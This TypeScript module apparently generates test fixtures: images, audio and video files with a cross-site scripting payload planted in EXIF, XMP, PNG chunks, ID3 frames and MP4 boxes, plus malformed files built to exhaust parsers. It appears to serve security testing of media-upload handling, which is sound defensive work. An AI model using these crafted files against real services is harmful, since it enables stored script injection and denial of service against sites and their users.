import { deflateSync } from 'node:zlib'
import { ascii, be32, hostile, le16, waveHeader } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

/** A picture of one pixel, drawn by an ordinary encoder. */
const JPEG = Buffer.from(
  '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=',
  'base64',
)
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
)
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')
const WEBP = Buffer.from('UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA', 'base64')

const be16 = (value: number): Buffer => Buffer.from([value >> 8, value & 0xff])

const crcTable = Array.from({ length: 256 }, (_, byte) => {
  let value = byte
  for (let bit = 0; bit < 8; bit++) value = value & 1 ? 0xed_b8_83_20 ^ (value >>> 1) : value >>> 1
  return value >>> 0
})
const crc = (bytes: Uint8Array): number =>
  (bytes.reduce((sum, byte) => (crcTable[(sum ^ byte) & 0xff] ?? 0) ^ (sum >>> 8), 0xff_ff_ff_ff) ^ 0xff_ff_ff_ff) >>> 0

const chunk = (type: string, data: Uint8Array): Buffer => {
  const named = Buffer.concat([ascii(type), data])
  return Buffer.concat([be32(data.byteLength), named, be32(crc(named))])
}
/** Behind the header, where what tells about a picture is. */
const pngWith = (...chunks: readonly Uint8Array[]): Buffer =>
  Buffer.concat([PNG.subarray(0, 33), ...chunks, PNG.subarray(33)])
const jpegWith = (marker: number, data: Uint8Array): Buffer =>
  Buffer.concat([JPEG.subarray(0, 2), Buffer.from([0xff, marker]), be16(data.byteLength + 2), data, JPEG.subarray(2)])
const riffWith = (riff: Uint8Array, type: string, data: Uint8Array): Buffer => {
  const padded = data.byteLength % 2 === 0 ? data : Buffer.concat([data, Buffer.from([0])])
  const size = Buffer.alloc(4)
  size.writeUInt32LE(data.byteLength)
  const whole = Buffer.concat([riff, ascii(type), size, padded])
  whole.writeUInt32LE(whole.byteLength - 8, 4)
  return whole
}

/** EXIF with a description, as cameras write it. */
function exif(words: string): Buffer {
  const text = Buffer.concat([ascii(words), Buffer.from([0])])
  const size = Buffer.alloc(4)
  size.writeUInt32LE(text.byteLength)
  const at = Buffer.from([26, 0, 0, 0])
  const tiff = [ascii('II*\0'), Buffer.from([8, 0, 0, 0]), le16(1), le16(0x010e), le16(2), size, at, be32(0), text]
  return Buffer.concat([ascii('Exif\0\0'), ...tiff])
}

const wave = (): Buffer => Buffer.concat([waveHeader(800, 0), Buffer.alloc(800, 128)])

const id3Frame = (id: string, data: Buffer): Buffer =>
  Buffer.concat([ascii(id), be32(data.byteLength), Buffer.from([0, 0]), data])
/** The length of a tag is written with seven bits to a byte. */
const id3 = (...frames: readonly Buffer[]): Buffer => {
  const all = Buffer.concat(frames)
  const size = [21, 14, 7, 0].map((shift) => (all.byteLength >> shift) & 0x7f)
  return Buffer.concat([ascii('ID3\u0003\0\0'), Buffer.from(size), all])
}
const box = (type: string, ...inside: readonly Uint8Array[]): Buffer => {
  const content = Buffer.concat(inside)
  return Buffer.concat([be32(content.byteLength + 8), ascii(type), content])
}

/** Whole pictures that hold pages and scripts where a camera writes its name. Shown as the pictures that they are. */
export function pictureMetadata({ script, address }: Payload): readonly HostileFile[] {
  const page = `"><script>${script}</script><img src=x onerror="${script}">`
  const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="${address}/xmp"><script xmlns="http://www.w3.org/1999/xhtml">${script}</script></rdf:Description></rdf:RDF></x:xmpmeta>`
  const note = Buffer.concat([
    Buffer.from([0x21, 0xfe, page.length & 0xff]),
    ascii(page.slice(0, page.length & 0xff)),
    Buffer.from([0]),
  ])
  const profile = Buffer.concat([ascii(`${page.slice(0, 70)}\0\0`), deflateSync(Buffer.from(page))])
  const pictures: readonly (readonly [string, Buffer])[] = [
    ['exif.jpg', jpegWith(0xe1, exif(page))],
    ['xmp.jpg', jpegWith(0xe1, ascii(`http://ns.adobe.com/xap/1.0/\0${xmp}`))],
    ['comment.jpg', jpegWith(0xfe, ascii(page))],
    ['iptc.jpg', jpegWith(0xed, ascii(`Photoshop 3.0\x008BIM\u0004\u0004\0\0${page}`))],
    ['page behind.jpg', Buffer.concat([JPEG, ascii(page)])],
    ['text.png', pngWith(chunk('tEXt', ascii(`Comment\0${page}`)))],
    ['international.png', pngWith(chunk('iTXt', ascii(`XML:com.adobe.xmp\0\0\0\0\0${xmp}`)))],
    ['profile.png', pngWith(chunk('iCCP', profile))],
    ['unknown.png', pngWith(chunk('htMl', ascii(page)))],
    ['archive behind.png', Buffer.concat([PNG, ascii(`PK\u0003\u0004${page}PK\u0005\u0006`)])],
    ['frames.png', pngWith(chunk('acTL', Buffer.concat([be32(0x7f_ff_ff_ff), be32(0)])))],
    ['comment.gif', Buffer.concat([GIF.subarray(0, 19), note, GIF.subarray(19)])],
    ['page behind.gif', Buffer.concat([GIF, ascii(page)])],
    ['exif.webp', riffWith(WEBP, 'EXIF', exif(page))],
    ['xmp.webp', riffWith(WEBP, 'XMP ', ascii(xmp))],
  ]
  return pictures.map(([name, content]) => hostile(`photo ${name}`, content, 'shown', 'text/html'))
}

/** Sounds and films that name themselves with markup, and their covers and samples with addresses. */
export function mediaMetadata({ script, address }: Payload): readonly HostileFile[] {
  const page = `"><script>${script}</script><img src=x onerror="${script}">`
  const latin = (text: string): Buffer => ascii(`\0${text}`)
  const film = (...inside: readonly Uint8Array[]): Buffer =>
    Buffer.concat([box('ftyp', ascii('isom'), be32(0), ascii('isom')), ...inside])
  const away = box('dref', be32(0), be32(1), box('url ', be32(0), ascii(`${address}/samples\0`)))
  const sounds: readonly (readonly [string, Buffer])[] = [
    ['title.mp3', id3(id3Frame('TIT2', latin(page)), id3Frame('TPE1', latin(page)))],
    [
      'address.mp3',
      id3(id3Frame('WXXX', latin(`x\0javascript:${script}`)), id3Frame('WOAF', ascii(`${address}/woaf`))),
    ],
    ['cover.mp3', id3(id3Frame('APIC', ascii(`\0-->\0\u0003\0${address}/cover.jpg`)))],
    ['object.mp3', id3(id3Frame('GEOB', ascii(`\0text/html\0x.html\0\0${page}`)))],
    ['list.wav', riffWith(wave(), 'LIST', Buffer.concat([ascii('INFOINAM'), le16(page.length), le16(0), ascii(page)]))],
    ['cue.wav', riffWith(wave(), 'iXML', ascii(`<BWFXML><SCRIPT>${script}</SCRIPT></BWFXML>`))],
    ['endless.wav', Buffer.concat([wave().subarray(0, 40), be32(0xff_ff_ff_ff), Buffer.alloc(80, 128)])],
    ['comment.flac', Buffer.concat([ascii('fLaC'), Buffer.from([0x84, 0, 0, page.length & 0xff]), ascii(page)])],
    [
      'vast cover.flac',
      Buffer.concat([ascii('fLaC'), Buffer.from([0x86, 0xff, 0xff, 0xff]), be32(3), be32(0xff_ff_ff_ff)]),
    ],
    [
      'comment.ogg',
      Buffer.concat([ascii('OggS\0\u0002'), Buffer.alloc(20), Buffer.from([1, 30]), ascii(`OpusTags${page}`)]),
    ],
    ['title.mp4', film(box('moov', box('udta', box('\u00a9nam', be32(page.length << 16), ascii(page)))))],
    ['samples elsewhere.mp4', film(box('moov', box('trak', box('mdia', box('minf', box('dinf', away))))))],
    [
      'alternative.mp4',
      film(
        box(
          'moov',
          box('rmra', box('rmda', box('rdrf', be32(0), ascii('url '), be32(address.length), ascii(address)))),
        ),
      ),
    ],
    [
      'nested.mp4',
      film(Buffer.concat(Array.from({ length: 5_000 }, () => Buffer.concat([be32(0x7f_ff_ff_ff), ascii('moov')])))),
    ],
    ['no length.mp4', film(Buffer.concat([be32(0), ascii('moov'), be32(0), ascii('trak')]))],
    [
      'many samples.mp4',
      film(box('moov', box('trak', box('mdia', box('minf', box('stbl', box('stts', be32(0), be32(0xff_ff_ff_ff)))))))),
    ],
    [
      'tags.webm',
      Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80, 0x18, 0x53, 0x80, 0x67, 0xff]), ascii(page)]),
    ],
    [
      'nested.webm',
      Buffer.concat([
        Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80]),
        Buffer.from([0x18, 0x53, 0x80, 0x67, 0xff].flatMap((byte) => [byte])),
        Buffer.alloc(20_000, 0xae),
      ]),
    ],
  ]
  return sounds.map(([name, content]) => hostile(`media ${name}`, content, 'anything', 'text/html'))
}
